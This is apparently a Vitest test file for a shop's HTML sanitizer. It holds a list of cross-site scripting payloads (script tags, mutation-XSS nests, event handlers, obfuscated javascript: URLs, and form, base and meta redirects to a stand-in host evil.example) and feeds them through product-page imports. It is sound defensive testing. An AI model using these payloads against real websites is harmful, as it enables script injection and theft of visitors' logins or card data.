import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { type DocumentShop, openDocumentShop } from './pages/documents/testing-shop.ts'

const evil = 'window.stolen=1'

/** Ways into a page that have worked somewhere: handlers, addresses, half-open tags, foreign markup, encodings. */
const hostile = [
  `<script>${evil}</script>`,
  `<scr<script>ipt>${evil}</scr</script>ipt>`,
  `<SCRIPT/SRC=//evil.example/a.js></SCRIPT>`,
  `<img src=x onerror=${evil}>`,
  `<img src="x" ONERROR="${evil}" / >`,
  `<p onmouseover="${evil}" style="background:url(javascript:${evil})">x</p>`,
  `<svg/onload=${evil}>`,
  `<svg><script>${evil}</script><animate onbegin=${evil} attributeName=x></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${evil}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${evil}>"></noscript>`,
  `<iframe srcdoc="&lt;script&gt;${evil}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${evil}</script>"></object><embed src="javascript:${evil}">`,
  `<a href="javascript:${evil}">a</a><a href=" \tjava\nscript:${evil}">b</a><a href="JaVaScRiPt:${evil}">c</a>`,
  `<a href="&#106;avascript:${evil}">d</a><a href="java&#x0A;script:${evil}">e</a><a href="\u0001javascript:${evil}">f</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">g</a><a href="vbscript:${evil}">h</a><a href="//evil.example">i</a>`,
  `<a href="/products" onclick="${evil}" target="_top" ping="https://evil.example">j</a>`,
  `<form action="https://evil.example"><input name=card autofocus onfocus=${evil}><button formaction=javascript:${evil}>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>`,
  `<style>*{background:url(https://evil.example)}</style><template><script>${evil}</script></template>`,
  `</div></main></body><script>${evil}</script>`,
  `<!--><script>${evil}</script>--><![CDATA[<script>${evil}</script>]]><?xml <script>${evil}</script>?>`,
  `<td colspan="1" onclick="${evil}"><details open ontoggle=${evil}><video><source onerror=${evil}></video>`,
  `&lt;script&gt;${evil}&lt;/script&gt;`,
  `<p id="__proto__" class="fixed" name="cookie" data-x="${evil}">x</p>`,
  `"><script>${evil}</script>`,
  `<a href="https://ok.example/?q=%22%3E%3Cscript%3E" title="</a><script>${evil}</script>">k</a>`,
]

/** Every tag and attribute that may be left, in the one spelling that the cleaner writes. */
const allowed =
  /<(?:\/(?:h[234]|p|[uo]l|li|strong|em|[bi]|a|table|thead|tbody|tr|t[hd]|blockquote|su[pb])|(?:h[234]|p|[uo]l|li|strong|em|[bi]|table|thead|tbody|tr|blockquote|su[pb])|[bh]r \/|t[hd](?: (?:col|row)span="\d+"| scope="\w+")*|a(?: href="(?:https?:|mailto:|tel:|\/(?!\/))[^"<>]*")?(?: rel="noopener nofollow")?)>/g

describe('what an import keeps of a description', () => {
  test.each(hostile)('runs nothing (%#)', (html) => {
    const rest = cleanHtml(html).replace(allowed, '')
    expect(rest).not.toMatch(/[<>]/)
    expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html))
  })
})

describe('the page of goods with nothing but hostile words', () => {
  let shop: DocumentShop
  beforeAll(async () => {
    shop = await openDocumentShop({}, hostileCsv())
  })
  afterAll(() => shop.close())

  test.each(['/products/evil', '/products', '/products?search=%3C/script%3E%3Cscript%3E1'])(
    '%s has no script and no handler but its own',
    async (url) => {
      const { body, statusCode } = await shop.app.inject(url)
      expect(statusCode).toBe(200)
      const own = (await shop.app.inject('/privacy')).body
      // Each page names modules of its own; their names come from the build.
      const starts = (html: string) =>
        [...html.matchAll(/<script[^>]*>.{0,24}/g)].map(([start]) =>
          start.replace(/ data-modules="(\/assets\/[\w-]+\.js ?)+"/, ' data-modules'),
        )
      const plain = body.replace(/<script type="application\/ld\+json">[^<]*<\/script>/g, '')
      expect(starts(plain)).toEqual(starts(own))
      const markup = body.replace(/<script[^>]*>[\s\S]*?<\/script>/g, '').replace(/="[^"]*"/g, '=""')
      expect(markup).not.toMatch(/<[^<>]*\s(on[a-z]+|srcdoc)=/i)
      expect(body).not.toMatch(/href="\s*(javascript|data|vbscript):/i)
    },
  )
})

/** Its title, maker, kind and flavour are as bad as its description. */
function hostileCsv(): string {
  const columns =
    'URL handle,Title,Description,Vendor,Type,Tags,SKU,Option1 name,Option1 value,Price,Compare-at price,Inventory quantity'
  const short = `</script><script>${evil}</script><p onclick=x>`
  const word = `${short}<img src=x onerror=${evil}>`
  const cells = [
    'evil',
    word,
    hostile.join(''),
    word,
    word,
    short,
    'E-1',
    'Flavour',
    short,
    '100',
    '100',
    '5',
  ]
  return `${columns}\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\n`
}
